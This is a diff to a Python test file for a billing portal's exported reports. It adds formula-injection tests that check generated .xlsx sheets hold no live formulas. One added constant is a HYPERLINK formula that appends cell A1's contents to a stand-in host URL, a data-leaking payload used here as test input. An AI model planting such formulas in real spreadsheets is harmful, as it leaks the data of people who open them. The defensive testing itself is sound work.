@@ -606,11 +606,15 @@ def test_a_blank_identifier_is_refused_in_the_body(client, gw, field, sent, code
 
 # --- after the operator's analysis: statements and reports ----------------------------------
 
+FORMULA = '=HYPERLINK("https://exemplo.invalido/"&A1,"Clique aqui")'
 # (change to the lot, a text the analytic spreadsheet must hold, or None)
 ANALYSED = {
     "a procedure code outside ISO-8859-1": (("codigoProcedimento", CJK * 10), CJK * 10),
     "a description of emoji": (("descricaoProcedimento", EMOJI * 150), EMOJI * 150),
     "a guide number with a tab and a newline": (("numeroGuiaPrestador", "G\t1\n2"), "G\t1\n2"),
+    # A spreadsheet must show it, not run it (formula injection).
+    "a description that is a formula": (("descricaoProcedimento", FORMULA), FORMULA),
+    "a guide number that is a formula": (("numeroGuiaPrestador", "=1+2"), "=1+2"),
     "a negative quantity": (("quantidadeExecutada", "-5"), None),
     "the largest sequencialItem": (("sequencialItem", "9999"), None),
 }
@@ -640,8 +644,11 @@ def test_statements_and_reports_of_an_analysed_protocol_with_extreme_values(clie
     ):
         response = client.get(pa.AREA + path)
         assert response.status_code == 200 and response.data.startswith(b"%PDF-"), path
+    for kind in ("analitico", "sintetico"):
+        sheet = client.get(f"{pa.AREA}/relatorios/{numero}/{kind}.xlsx")
+        assert sheet.status_code == 200
+        assert pa.sheet_formulas(sheet.data) == [], kind
     sheet = client.get(f"{pa.AREA}/relatorios/{numero}/analitico.xlsx")
-    assert sheet.status_code == 200
     if in_spreadsheet is not None:
         cells = [cell for row in pa.sheet_values(sheet.data) if row for cell in row]
         assert in_spreadsheet in cells
